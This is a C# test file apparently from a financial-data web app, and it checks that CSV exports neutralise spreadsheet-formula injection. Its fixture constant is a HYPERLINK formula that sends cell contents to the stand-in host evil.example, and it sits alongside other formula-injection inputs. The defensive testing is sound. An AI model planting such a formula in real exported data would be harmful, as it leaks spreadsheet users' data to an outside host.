using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.RegularExpressions;
using MinerPivot.Data;
using MinerPivot.TestSupport;
using MinerPivot.Web.Components.Shared;

namespace MinerPivot.Web.Tests.Faults;

/// <summary>A source that is a spreadsheet formula stays text in the pages' CSV exports and exact in the admin export.</summary>
public partial class CsvInjectionTests(MinerPivotApp app) : IClassFixture<MinerPivotApp>
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"10-Q\")";

    [Fact]
    public async Task A_formula_source_is_neutralised_in_the_company_pages_quarters_CSV_and_exact_in_the_admin_export()
    {
        var admin = await app.BearerClientAsync(await app.CreateUserAsync(Roles.Admin));
        var quoted = "\"" + Formula.Replace("\"", "\"\"") + "\"";
        var import = await admin.PostAsync("/api/v1/import", Upload(new()
        {
            ["companies.csv"] = "ticker,name,fiscal_year_end_month\nEVIL,Evil Corp,12\n",
            ["quarterly.csv"] = "ticker,period_end,fiscal_label,reported_on,colocation_revenue_usd,mining_revenue_usd,btc_produced,cash_cost_per_btc_usd,contracted_mw,energized_mw,billable_mw,gross_pipeline_mw,capex_usd,source\n"
                + $"EVIL,2026-03-31,Q1 2026,2026-05-07,1000000,,,,,,,,,{quoted}\n",
        }));
        Assert.True(import.StatusCode == HttpStatusCode.OK, await import.Content.ReadAsStringAsync());

        var analyst = await app.CookieClientAsync(await app.CreateUserAsync(Roles.Analyst));
        var page = await analyst.GetAsync("/companies/EVIL?asOf=2026-05-31");
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        var csv = CsvOffered(await page.Content.ReadAsStringAsync(), "EVIL-quarters-2026-05-31.csv");
        var row = csv.Split("\r\n")[1];
        Assert.StartsWith("Q1 2026,2026-03-31,2026-05-07,1000000.00,", row);
        Assert.EndsWith(",\"'" + Formula.Replace("\"", "\"\"") + "\"", row);

        var export = await admin.GetAsync("/api/v1/export?ticker=EVIL");
        Assert.Equal(HttpStatusCode.OK, export.StatusCode);
        using var zip = new ZipArchive(await export.Content.ReadAsStreamAsync());
        using var reader = new StreamReader(zip.GetEntry("quarterly.csv")!.Open());
        var exported = await reader.ReadToEndAsync();
        Assert.Contains("," + quoted + "\n", exported.Replace("\r\n", "\n"));
        Assert.DoesNotContain("'=", exported);
    }

    [Theory]
    [InlineData("-12.5", "-12.5")]
    [InlineData("801.16", "801.16")]
    [InlineData("-5M", "'-5M")]
    [InlineData("+1", "'+1")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("-1\n=2", "\"'-1\n=2\"")]
    [InlineData("Q1 2026 = good", "Q1 2026 = good")]
    public void A_cell_a_spreadsheet_would_read_as_a_formula_gets_an_apostrophe_and_a_number_does_not(string cell, string written)
    {
        Assert.Equal("h\r\n" + written + "\r\n", Csv.Write(["h"], [[cell]]));
    }

    /// <summary>The CSV behind the page's download link for <paramref name="fileName"/> (a data: URL).</summary>
    private static string CsvOffered(string html, string fileName)
    {
        var link = CsvLink().Matches(html).SingleOrDefault(m => WebUtility.HtmlDecode(m.Groups["name"].Value) == fileName);
        Assert.True(link is not null, $"no CSV link named {fileName}");
        const string prefix = "data:text/csv;charset=utf-8,";
        var href = WebUtility.HtmlDecode(link.Groups["href"].Value);
        Assert.StartsWith(prefix, href);
        return Uri.UnescapeDataString(href[prefix.Length..]);
    }

    private static MultipartFormDataContent Upload(Dictionary<string, string> files)
    {
        var form = new MultipartFormDataContent();
        foreach (var (name, text) in files)
        {
            var part = new ByteArrayContent(Encoding.UTF8.GetBytes(text));
            part.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
            form.Add(part, "files", name);
        }
        return form;
    }

    [GeneratedRegex("<a [^>]*href=\"(?<href>data:text/csv[^\"]*)\"[^>]*download=\"(?<name>[^\"]*)\"")]
    private static partial Regex CsvLink();
}
